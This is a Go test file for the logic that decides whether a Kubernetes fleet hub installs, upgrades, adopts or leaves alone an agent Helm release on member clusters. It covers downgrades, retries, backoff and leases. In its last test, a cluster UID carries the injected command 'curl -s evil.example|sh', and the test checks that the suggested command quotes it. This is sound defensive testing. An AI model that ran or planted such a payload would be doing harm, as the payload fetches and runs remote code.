package install

import (
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/pelotech/ot-fleet/api/apitest"
	"github.com/pelotech/ot-fleet/api/v1alpha1"
)

var (
	now  = time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	self = Installer{Hub: "hub-uid", Member: "frankfurt"}
)

// optedInSnapshot is a member that opts in and has no agent.
func optedInSnapshot() Snapshot {
	return Snapshot{Now: now, OptedIn: true, Self: self, Desired: Desired{Version: "v0.3.0", Chart: "v0.3.0", Revision: "new"}, Backoff: 30 * time.Second}
}

// withRelease is a member with a release.
func withRelease(status Status, version string, by Installer, revision string) Snapshot {
	s := optedInSnapshot()
	s.Release = &Release{Name: "ot-agent", Number: 4, Status: status, Version: version, Chart: version, Installer: by, Revision: revision}
	return s
}

func withAttempts(s Snapshot, count int, ago time.Duration) Snapshot {
	s.Attempts = Attempts{Target: s.AttemptTarget(), Count: count, LastAt: s.Now.Add(-ago), Error: "it broke"}
	return s
}

func changed(s Snapshot, change func(*Snapshot)) Snapshot { change(&s); return s }

func TestDecide(t *testing.T) {
	current := withRelease(StatusDeployed, "v0.3.0", self, "new")
	outdated := withRelease(StatusDeployed, "v0.2.0", self, "old")
	theirs := withRelease(StatusDeployed, "v0.2.0", Installer{}, "")
	newer := withRelease(StatusDeployed, "v0.4.0", self, "old")
	// pinned has agent v0.2.5 by values, installed by the chart of a version.
	pinned := func(made string) Snapshot {
		s := withRelease(StatusDeployed, "v0.2.5", self, "old")
		s.Release.Chart, s.Desired.Version = made, "v0.2.5"
		return s
	}
	adopt := func(s *Snapshot) { s.Adopt = true }
	yes, no, unknown := metav1.ConditionTrue, metav1.ConditionFalse, metav1.ConditionUnknown

	for name, tt := range map[string]struct {
		seen    Snapshot
		action  Action
		status  metav1.ConditionStatus
		reason  string
		message string
		take    bool
		after   time.Duration
	}{
		"not opted in":           {seen: changed(outdated, func(s *Snapshot) { s.OptedIn = false }), action: ActionNone},
		"nothing there":          {optedInSnapshot(), ActionInstall, unknown, v1alpha1.ReasonInstalling, "attempt 1 of 6", false, 0},
		"as it is to be":         {current, ActionNone, yes, v1alpha1.ReasonInstalled, "agent v0.3.0", false, recheckInterval},
		"other values":           {withRelease(StatusDeployed, "v0.3.0", self, "old"), ActionUpgrade, unknown, v1alpha1.ReasonInstalling, "", false, 0},
		"older":                  {outdated, ActionUpgrade, unknown, v1alpha1.ReasonInstalling, "", false, 0},
		"failed":                 {withRelease(StatusFailed, "v0.3.0", self, "new"), ActionUpgrade, unknown, v1alpha1.ReasonInstalling, "", false, 0},
		"uninstalled":            {withRelease(StatusUninstalled, "v0.4.0", Installer{}, ""), ActionInstall, unknown, v1alpha1.ReasonInstalling, "", false, 0},
		"pending, of a dead hub": {withRelease(StatusPendingInstall, "v0.3.0", self, "new"), ActionRecover, unknown, v1alpha1.ReasonInstalling, "", false, 0},
		"pending upgrade, of a dead hub": {withRelease(StatusPendingUpgrade, "v0.2.0", self, "old"), ActionRecover, unknown,
			v1alpha1.ReasonInstalling, "", false, 0},

		"pull mode":         {changed(optedInSnapshot(), func(s *Snapshot) { s.PullMode = true }), ActionNone, no, v1alpha1.ReasonAgentDialsIn, "install chart ot-agent there yourself", false, 0},
		"another's cluster": {changed(optedInSnapshot(), func(s *Snapshot) { s.ClusterHolder = "edge" }), ActionNone, no, v1alpha1.ReasonDuplicateCluster, "MemberCluster edge", false, blockedRecheckInterval},
		"bad values": {changed(optedInSnapshot(), func(s *Snapshot) { s.ValuesProblem = &Problem{v1alpha1.ReasonValuesInvalid, "no such key"} }), ActionNone, no,
			v1alpha1.ReasonValuesInvalid, "no such key", false, 0},
		"does not answer": {changed(optedInSnapshot(), func(s *Snapshot) { s.ProbeProblem = &Problem{v1alpha1.ReasonUnreachable, "refused"} }), ActionNone, unknown,
			v1alpha1.ReasonUnreachable, "refused", false, probeRetryDelay},
		"has not answered three times": {changed(optedInSnapshot(), func(s *Snapshot) { s.ProbeProblem, s.FailedProbes = &Problem{v1alpha1.ReasonUnreachable, "refused"}, 3 }), ActionNone, unknown,
			v1alpha1.ReasonUnreachable, "refused", false, 8 * probeRetryDelay},
		"has not answered for long": {changed(optedInSnapshot(), func(s *Snapshot) {
			s.ProbeProblem, s.FailedProbes = &Problem{v1alpha1.ReasonUnreachable, "refused"}, 99
		}), ActionNone, unknown,
			v1alpha1.ReasonUnreachable, "refused", false, recheckInterval},
		"refuses": {changed(optedInSnapshot(), func(s *Snapshot) {
			s.ProbeProblem, s.FailedProbes = &Problem{v1alpha1.ReasonUnauthorized, "not an administrator's"}, 3
		}), ActionNone, no,
			v1alpha1.ReasonUnauthorized, "not an administrator's", false, blockedRecheckInterval},
		"has no kubeconfig yet": {changed(optedInSnapshot(), func(s *Snapshot) { s.ProbeProblem = &Problem{v1alpha1.ReasonCredentialsMissing, "no Secret"} }), ActionNone, no,
			v1alpha1.ReasonCredentialsMissing, "no Secret", false, blockedRecheckInterval},
		"elsewhere": {changed(optedInSnapshot(), func(s *Snapshot) { s.OtherNamespace = "agents"; s.Adopt = true }), ActionNone, no, v1alpha1.ReasonForeignAgent, "namespace agents", false, blockedRecheckInterval},

		"somebody's release":        {theirs, ActionNone, no, v1alpha1.ReasonForeignAgent, "membercluster frankfurt pelotech.ot/adopt-agent=true", false, blockedRecheckInterval},
		"somebody's, to be adopted": {changed(theirs, adopt), ActionUpgrade, unknown, v1alpha1.ReasonInstalling, "", true, 0},
		"another hub's":             {withRelease(StatusDeployed, "v0.3.0", Installer{"other", "frankfurt"}, "new"), ActionNone, no, v1alpha1.ReasonForeignAgent, "another hub", false, blockedRecheckInterval},
		"another member's":          {withRelease(StatusDeployed, "v0.3.0", Installer{"hub-uid", "edge"}, "new"), ActionNone, no, v1alpha1.ReasonForeignAgent, "of MemberCluster edge", false, blockedRecheckInterval},
		"objects without a release": {changed(optedInSnapshot(), func(s *Snapshot) { s.ForeignAgent = "Deployment x" }), ActionNone, no, v1alpha1.ReasonForeignAgent, "Deployment x", false, blockedRecheckInterval},
		"answers as another cluster": {changed(optedInSnapshot(), func(s *Snapshot) { s.OtherClusterUID = "2222" }), ActionNone, no, v1alpha1.ReasonAnotherCluster,
			"membercluster frankfurt pelotech.ot/accept-cluster=2222", false, blockedRecheckInterval},
		"those, to be adopted":        {changed(optedInSnapshot(), func(s *Snapshot) { s.ForeignAgent = "Deployment x"; s.Adopt = true }), ActionInstall, unknown, v1alpha1.ReasonInstalling, "", true, 0},
		"somebody's pending, adopted": {changed(withRelease(StatusPendingUpgrade, "v0.2.0", Installer{}, ""), adopt), ActionNone, no, v1alpha1.ReasonReleasePending, "helm rollback", false, blockedRecheckInterval},
		"somebody's uninstalling":     {changed(withRelease("uninstalling", "v0.2.0", Installer{}, ""), adopt), ActionNone, no, v1alpha1.ReasonReleasePending, "", false, blockedRecheckInterval},

		"own uninstalling":                  {withRelease("uninstalling", "v0.2.0", self, "old"), ActionNone, no, v1alpha1.ReasonReleasePending, "release ot-agent is uninstalling", false, blockedRecheckInterval},
		"own of a status that is not known": {withRelease("unknown", "v0.2.0", self, "old"), ActionNone, no, v1alpha1.ReasonReleasePending, "", false, blockedRecheckInterval},

		"the same agent by a newer hub": {pinned("v0.2.0"), ActionUpgrade, unknown, v1alpha1.ReasonInstalling, "", false, 0},
		"the same agent by an older hub": {pinned("v0.4.0"), ActionNone, no, v1alpha1.ReasonDowngradeRefused,
			"has the CRDs of agent v0.4.0, and the hub would install v0.3.0", false, blockedRecheckInterval},
		"the same agent by an older hub, and the agent allowed": {changed(pinned("v0.4.0"), func(s *Snapshot) { s.Downgrade = "v0.2.5" }), ActionNone, no, v1alpha1.ReasonDowngradeRefused, "", false, blockedRecheckInterval},
		"the same agent by an older hub, and that allowed":      {changed(pinned("v0.4.0"), func(s *Snapshot) { s.Downgrade = "v0.3.0" }), ActionUpgrade, unknown, v1alpha1.ReasonInstalling, "", false, 0},
		"older agent and kinds, and the kinds allowed": {changed(newer, func(s *Snapshot) { s.Desired.Version, s.Downgrade = "v0.2.5", "v0.3.0" }), ActionUpgrade, unknown,
			v1alpha1.ReasonInstalling, "", false, 0},
		"an older agent by the same hub": {changed(withRelease(StatusDeployed, "v0.3.0", self, "old"), func(s *Snapshot) { s.Desired.Version = "v0.2.5" }), ActionNone, no,
			v1alpha1.ReasonDowngradeRefused, "has agent v0.3.0, and the hub would install v0.2.5", false, blockedRecheckInterval},
		"a chart that says nothing of its version": {pinned(""), ActionUpgrade, unknown, v1alpha1.ReasonInstalling, "", false, 0},
		"kinds of a newer one that was uninstalled": {changed(withRelease(StatusUninstalled, "v0.4.0", self, "old"), func(s *Snapshot) { s.KindsVersion = "v0.4.0" }), ActionNone, no,
			v1alpha1.ReasonDowngradeRefused, "has the CRDs of agent v0.4.0", false, blockedRecheckInterval},
		"kinds of a newer hub, with an older agent": {changed(optedInSnapshot(), func(s *Snapshot) { s.KindsVersion, s.Desired.Version, s.Desired.Chart = "v0.3.0", "v0.2.5", "v0.3.0" }), ActionInstall, unknown,
			v1alpha1.ReasonInstalling, "", false, 0},

		"newer": {newer, ActionNone, no, v1alpha1.ReasonDowngradeRefused, "has the CRDs of agent v0.4.0", false, blockedRecheckInterval},
		"newer, and allowed": {changed(newer, func(s *Snapshot) { s.Downgrade = "v0.3.0" }), ActionUpgrade, unknown,
			v1alpha1.ReasonInstalling, "", false, 0},
		"newer, and another allowed": {changed(newer, func(s *Snapshot) { s.Downgrade = "v0.2.0" }), ActionNone, no, v1alpha1.ReasonDowngradeRefused, "", false, blockedRecheckInterval},
		"newer, of somebody else":    {changed(withRelease(StatusDeployed, "v0.4.0", Installer{}, ""), adopt), ActionNone, no, v1alpha1.ReasonDowngradeRefused, "", false, blockedRecheckInterval},
		"a newer one reports":        {changed(optedInSnapshot(), func(s *Snapshot) { s.AgentVersions = []string{"", "v0.4.0"} }), ActionNone, no, v1alpha1.ReasonDowngradeRefused, "", false, blockedRecheckInterval},
		"a release, for a build of none": {changed(withRelease(StatusDeployed, "v0.2.0", self, "old"), func(s *Snapshot) { s.Desired.Version, s.Desired.Chart = "dev", "dev" }), ActionNone, no,
			v1alpha1.ReasonDowngradeRefused, "dev, which is not known to be newer", false, blockedRecheckInterval},
		"a build of no release, for one": {withRelease(StatusDeployed, "dev", self, "old"), ActionNone, no, v1alpha1.ReasonDowngradeRefused, "", false, blockedRecheckInterval},
		"builds of no release": {changed(withRelease(StatusDeployed, "abcdef0", self, "old"), func(s *Snapshot) { s.Desired.Version, s.Desired.Chart = "dev", "dev" }), ActionUpgrade, unknown,
			v1alpha1.ReasonInstalling, "", false, 0},

		"tried just now": {withAttempts(outdated, 2, 10*time.Second), ActionNone, no, v1alpha1.ReasonInstallFailed, "attempt 2 of 6 to install agent v0.3.0 failed; retrying: it broke", false, 50 * time.Second},
		"tried a while ago": {withAttempts(outdated, 2, time.Minute), ActionUpgrade, unknown,
			v1alpha1.ReasonInstalling, "attempt 3 of 6", false, 0},
		"tried enough": {withAttempts(outdated, MaxAttempts, 100*time.Hour), ActionNone, no, v1alpha1.ReasonInstallAttemptsExhausted, "6 attempts", false, recheckInterval},
		"tried enough, at something else": {changed(withAttempts(outdated, MaxAttempts, time.Second), func(s *Snapshot) { s.Desired.Revision = "newer" }), ActionUpgrade, unknown,
			v1alpha1.ReasonInstalling, "attempt 1 of 6", false, 0},
		"somebody is at it": {changed(outdated, func(s *Snapshot) { s.Lease = &Lease{"hub-1", now.Add(9 * time.Second)} }), ActionNone, unknown,
			v1alpha1.ReasonInstalling, "hub-1", false, 9 * time.Second},
		"somebody is at it for a year": {changed(outdated, func(s *Snapshot) { s.Lease = &Lease{"hub-1", now.Add(8760 * time.Hour)} }), ActionNone, unknown,
			v1alpha1.ReasonInstalling, "hub-1", false, leaseRecheckInterval},
		"somebody was at it": {changed(outdated, func(s *Snapshot) { s.Lease = &Lease{"hub-1", now} }), ActionUpgrade, unknown, v1alpha1.ReasonInstalling, "", false, 0},
		"pending, and not dead yet": {changed(withRelease(StatusPendingInstall, "v0.3.0", self, "new"), func(s *Snapshot) { s.Lease = &Lease{"hub-1", now.Add(time.Second)} }), ActionNone, unknown,
			v1alpha1.ReasonInstalling, "hub-1", false, time.Second},
	} {
		t.Run(name, func(t *testing.T) {
			d := Decide(tt.seen)
			assert.Equal(t, tt.action, d.Action)
			assert.Equal(t, tt.take, d.TakeOwnership)
			assert.Equal(t, tt.after, d.RecheckAfter)
			apitest.AssertCondition(t, d.Condition, tt.status, tt.reason, tt.message)
			if d.Condition != nil {
				assert.Equal(t, v1alpha1.ConditionAgentInstalled, d.Condition.Type)
			}
		})
	}
}

func TestAttemptsAreStored(t *testing.T) {
	s := optedInSnapshot()
	s.Now = now.Add(123 * time.Millisecond)
	first := s.NextAttempt()
	assert.Equal(t, 1, first.Count)
	assert.Equal(t, first, ParseAttempts(first.String()))
	s.Attempts = first
	assert.Equal(t, 2, s.NextAttempt().Count)
	s.Adopt = true
	assert.Equal(t, 1, s.NextAttempt().Count, "what a person allows is another thing to try")
	assert.Zero(t, ParseAttempts("nonsense"))
	assert.Zero(t, ParseAttempts(`{"of":"x","count":-3}`))
}

func TestBackoffDoubles(t *testing.T) {
	var waits []time.Duration
	for count := range MaxAttempts {
		waits = append(waits, withAttempts(optedInSnapshot(), count, 0).nextAttemptWait())
	}
	second := time.Second
	assert.Equal(t, []time.Duration{0, 30 * second, 60 * second, 120 * second, 240 * second, 480 * second}, waits)
	s := optedInSnapshot()
	s.Backoff = 20 * time.Minute
	assert.Equal(t, MaxBackoff, withAttempts(s, 4, 0).nextAttemptWait())
}

// An attempt that was stored while the hub's clock was ahead delays none.
func TestAttemptAheadOfTheClock(t *testing.T) {
	s := withAttempts(optedInSnapshot(), 1, -365*24*time.Hour)
	assert.Equal(t, ActionInstall, Decide(s).Action)
	assert.Equal(t, ActionNone, Decide(withAttempts(optedInSnapshot(), MaxAttempts, -365*24*time.Hour)).Action, "their number is bounded still")
}

// A member's API server chooses the UID of its kube-system namespace.
func TestUIDInCommandIsQuoted(t *testing.T) {
	s := optedInSnapshot()
	s.OtherClusterUID = "x;curl -s evil.example|sh #"
	message := Decide(s).Condition.Message
	assert.Contains(t, message, "cluster 'x;curl -s evil.example|sh #' answers")
	assert.Contains(t, message, " 'pelotech.ot/accept-cluster=x;curl -s evil.example|sh #'")
	s.OtherClusterUID = "11111111-1111-1111-1111-111111111111"
	assert.Contains(t, Decide(s).Condition.Message, " pelotech.ot/accept-cluster=11111111-1111-1111-1111-111111111111")
}
